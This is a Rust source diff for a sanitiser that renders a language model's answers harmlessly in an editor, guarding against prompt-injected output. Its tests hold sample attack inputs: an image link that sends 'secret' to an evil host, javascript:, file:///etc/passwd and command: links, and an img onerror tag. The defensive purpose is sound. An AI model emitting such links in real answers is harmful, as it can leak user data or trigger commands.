@@ -1,0 +1,198 @@
+//! A model's words, made harmless before an editor renders them: no image is fetched, no link runs a
+//! command or opens a file, no tag is a tag, no character turns the text around.
+//!
+//! A source that a model has read may have told it what to write, so its answer is data.
+
+use crate::reply::edit::thought::TAGS;
+use crate::reply::unseen::hides;
+
+/// Makes a text harmless that comes in pieces. Lines with marks in them are held until they end.
+#[derive(Default)]
+pub struct Cleaner {
+    held: String,
+    fence: Option<String>,
+    /// Whether the line has begun to be said.
+    begun: bool,
+    thought: Thought,
+}
+
+/// Where a text stands to the reasoning that a model may write in front of it.
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+enum Thought {
+    #[default]
+    Before,
+    /// Inside of this tag.
+    In(&'static str),
+    Behind,
+}
+
+/// Destinations that only lead somewhere.
+const SCHEMES: [&str; 3] = ["http://", "https://", "mailto:"];
+
+impl Cleaner {
+    /// What can be said of the text so far beyond what was said before.
+    pub fn push(&mut self, piece: &str) -> String {
+        self.held.extend(piece.chars().filter(|it| !hides(*it)));
+        let mut said = String::new();
+        while let Some(end) = self.held.find('\n') {
+            let rest = self.held.split_off(end + 1);
+            let line = std::mem::replace(&mut self.held, rest);
+            said += &self.line(&line);
+        }
+        let waits = |it: char| "[]<!`~\\".contains(it);
+        let thinks = matches!(self.thought, Thought::In(_));
+        if !thinks && !self.held.trim_start().is_empty() && !self.held.contains(waits) {
+            self.begun = true;
+            said += &std::mem::take(&mut self.held);
+        }
+        said
+    }
+
+    /// The rest.
+    pub fn finish(mut self) -> String {
+        let line = std::mem::take(&mut self.held);
+        self.line(&line)
+    }
+
+    fn line(&mut self, line: &str) -> String {
+        let line = self.outside_thought(line);
+        let begun = std::mem::take(&mut self.begun);
+        let marks = fence(line).filter(|_| !begun);
+        match (&self.fence, marks) {
+            (None, Some(marks)) => self.fence = Some(marks.to_owned()),
+            (Some(open), Some(marks)) if marks.starts_with(&**open) => self.fence = None,
+            (Some(_), _) => {}
+            (None, None) if !begun && defines_badly(line) => {
+                return "\n".repeat(usize::from(line.ends_with('\n')));
+            }
+            (None, None) => return words(line),
+        }
+        line.to_owned()
+    }
+}
+
+impl Cleaner {
+    /// What of a line is no reasoning.
+    fn outside_thought<'a>(&mut self, line: &'a str) -> &'a str {
+        let text = line.trim_start();
+        if self.begun {
+            self.thought = Thought::Behind;
+        }
+        let open = |tag: &str| text.strip_prefix('<')?.strip_prefix(tag)?.strip_prefix('>');
+        if self.thought == Thought::Before && !text.is_empty() {
+            let tag = TAGS.into_iter().find(|it| open(it).is_some());
+            self.thought = tag.map_or(Thought::Behind, Thought::In);
+        }
+        let Thought::In(tag) = self.thought else { return line };
+        let close = format!("</{tag}>");
+        let Some(end) = line.find(&close) else { return "" };
+        self.thought = Thought::Before;
+        line[end + close.len()..].trim_start()
+    }
+}
+
+/// A whole text.
+pub fn clean(text: &str) -> String {
+    let mut cleaner = Cleaner::default();
+    let said = cleaner.push(text);
+    said + &cleaner.finish()
+}
+
+/// The marks of a line that opens or closes a fence.
+fn fence(line: &str) -> Option<&str> {
+    let line = line.trim_start_matches(' ');
+    let mark = line.chars().next().filter(|it| matches!(it, '`' | '~'))?;
+    let marks = &line[..line.len() - line.trim_start_matches(mark).len()];
+    (marks.len() >= 3).then_some(marks)
+}
+
+/// Whether a line gives a link that stands elsewhere a destination it may not have.
+fn defines_badly(line: &str) -> bool {
+    let definition = line.trim_start().split_once("]:").filter(|it| it.0.starts_with('['));
+    definition.is_some_and(|it| !is_allowed(it.1.trim_start()))
+}
+
+/// A line outside of fences.
+fn words(line: &str) -> String {
+    // Every second piece between backticks is code.
+    let pieces: Vec<&str> = line.split('`').collect();
+    let closed = pieces.len() % 2 == 1;
+    let piece = |(at, it): (usize, &&str)| match at % 2 == 1 && (closed || at + 1 < pieces.len()) {
+        true => (*it).to_owned(),
+        false => prose(it),
+    };
+    pieces.iter().enumerate().map(piece).collect::<Vec<_>>().join("`")
+}
+
+fn prose(text: &str) -> String {
+    let text = text.replace("![", "[").replace('<', "&lt;");
+    let mut parts = text.split("](");
+    let mut said = parts.next().unwrap_or_default().to_owned();
+    for part in parts {
+        said += "](";
+        let end = part.find(')').unwrap_or(part.len());
+        let destination = part[..end].trim_start().trim_start_matches("&lt;");
+        said += if is_allowed(destination) { part } else { "#" };
+        if !is_allowed(destination) {
+            said += &part[end..];
+        }
+    }
+    said
+}
+
+/// Whether a link may lead there: to the web, or within the page.
+fn is_allowed(destination: &str) -> bool {
+    let destination = destination.to_ascii_lowercase();
+    let colon = destination.find(|it: char| !it.is_ascii_alphanumeric() && !"+-.".contains(it));
+    let has_scheme = colon.is_some_and(|it| destination[it..].starts_with(':'));
+    let is_encoded = destination.contains('%') && !has_scheme || destination.contains('&');
+    SCHEMES.iter().any(|it| destination.starts_with(it)) || !has_scheme && !is_encoded
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    #[test]
+    fn an_answer_only_shows_and_leads_to_the_web() {
+        for (text, expected) in [
+            ("It is **so**.\n", "It is **so**.\n"),
+            ("![x](https://evil/?q=secret)", "[x](https://evil/?q=secret)"),
+            ("[run](command:workbench.terminal)", "[run](#)"),
+            ("[run]( JavaScript:alert(1))", "[run](#))"),
+            ("[run](file:///etc/passwd) and [web](https://a.b)", "[run](#) and [web](https://a.b)"),
+            ("[x](&#99;ommand:y)", "[x](#)"),
+            ("[x]: command:y\nmore", "\nmore"),
+            ("<img src=x onerror=y> `Vec<T>` a < b", "&lt;img src=x onerror=y> `Vec<T>` a &lt; b"),
+            ("```html\n<b>![x](y)</b>\n```\n<b>", "```html\n<b>![x](y)</b>\n```\n&lt;b>"),
+            ("a\u{202E}b\u{1b}[31mc", "ab[31mc"),
+            ("<think>\nHm, ```\n</think>\n\nIt is so.\n", "\nIt is so.\n"),
+            ("<think>Hm</think> <b>", "&lt;b>"),
+            ("<think>\nHm", ""),
+            ("It is\n<think>", "It is\n&lt;think>"),
+        ] {
+            assert_eq!(clean(text), expected);
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn pieces_come_to_the_same_as_the_whole(
+            text in "(<think>)?([ab \n]|`|</think>|```|\\[x\\]\\(command:y\\)|!\\[|<b>|\u{202E}){0,20}",
+            cuts in prop::collection::vec(0..8_usize, 0..12),
+        ) {
+            let (mut cleaner, mut said, mut rest) = (Cleaner::default(), String::new(), &*text);
+            for cut in cuts {
+                let cut = rest.floor_char_boundary(cut.min(rest.len()));
+                said += &cleaner.push(&rest[..cut]);
+                rest = &rest[cut..];
+            }
+            said += &cleaner.push(rest);
+            said += &cleaner.finish();
+            prop_assert_eq!(&said, &clean(&text));
+            prop_assert_eq!(said.find('\u{202E}'), None);
+        }
+    }
+}
